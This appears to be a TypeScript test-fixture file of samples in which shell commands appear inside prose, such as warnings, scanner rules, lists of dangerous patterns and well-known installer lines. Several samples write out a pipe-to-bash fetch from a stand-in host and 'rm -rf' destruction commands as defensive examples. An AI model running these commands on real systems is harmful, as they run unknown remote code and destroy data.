import { document } from "../hostile/row";
import type { Sample } from "../sample";

const FETCHED = "`curl https://x.example/i.sh | bash`";

/** Commands within a sentence that speaks of them, or that start a well-known installer. */
export const INLINE_COMMANDS: readonly Sample[] = [
  ["never run", `Never run ${FETCHED} from a place that you do not know.`],
  ["a sentence that ends with the warning", `A script that contains ${FETCHED} is dangerous.`],
  ["what a scanner looks for", `Flag scripts that do ${FETCHED}.`],
  ["a heading of warnings", `## Red flags\n\nA script with ${FETCHED} in it.`],
  ["a list of dangerous patterns", `Dangerous patterns:\n\n- ${FETCHED}\n- \`rm -rf /\`\n- \`rm -rf ~\``],
  [
    "a table of dangerous patterns",
    "| Dangerous | Why |\n|---|---|\n| `curl https://x.example/i.sh \\| bash` | runs anything |\n| `rm -rf ~` | takes all |",
  ],
  ["a warning in Chinese", `切勿运行 ${FETCHED}。`],
  ["a pattern without an address", "Reject `curl http://... | bash` patterns."],
  ["the installer of uv", "Install uv: `curl -LsSf https://astral.sh/uv/install.sh | sh`."],
  ["the installer of Rust", "Run `curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh`."],
  ["an answer that is read", "Ask `curl -s https://x.example/a.json | jq .`."],
].map(([title = "", body = ""]) => ({ title: `a command in a sentence: ${title}`, files: document(body) }));
